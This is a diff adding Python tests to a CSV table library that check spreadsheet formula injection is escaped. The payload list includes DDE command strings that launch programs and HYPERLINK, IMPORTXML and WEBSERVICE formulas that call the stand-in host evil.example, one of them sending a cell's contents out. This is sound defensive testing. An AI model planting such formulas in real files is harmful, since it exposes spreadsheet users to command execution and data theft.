@@ -36,10 +36,28 @@ def test_markdown_comes_back_as_it_was(body: list[tuple[str, str]]) -> None:
     assert read(f"# My letters\n\n{text}", "Writer") == table(body)
 
 
+LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋")
+FORMULAS = (
+    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?"&A1,"press")', "SUM(A1:A9)", "A1", "DDE(1;2;3)",
+    'IMPORTXML("https://evil.example","//a")', 'WEBSERVICE("https://evil.example")', "-2+cmd|'/C x'!'A1'", "@SUM(1)",
+)  # fmt: skip
+PAYLOADS = [lead + formula for lead in LEADS for formula in FORMULAS]
+
+
 @given(BODY)
 def test_no_cell_of_a_csv_can_be_run(body: list[tuple[str, str]]) -> None:
     for row in csv.reader(io.StringIO(commas.write(table(body)), newline="")):
-        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+        assert not any(cell.startswith(tuple(lead[0] for lead in LEADS)) for cell in row)
+
+
+def test_a_hundred_formulas_in_every_cell_are_text_when_the_file_is_opened_again() -> None:
+    """As every spreadsheet decides it: by the first letter of a cell. None is at hand here to open one in."""
+    assert len(PAYLOADS) == 100
+    body = [(one, other) for one, other in zip(PAYLOADS, PAYLOADS[::-1], strict=True)]
+    written = commas.write(table(body))
+    opened = list(csv.reader(io.StringIO(written, newline="")))[1:]
+    assert [tuple(cell[0] for cell in row) for row in opened] == [("'", "'")] * 100
+    assert read(written, "Writer") == table(body)
 
 
 @pytest.mark.parametrize("between", [",", ";", "\t"])
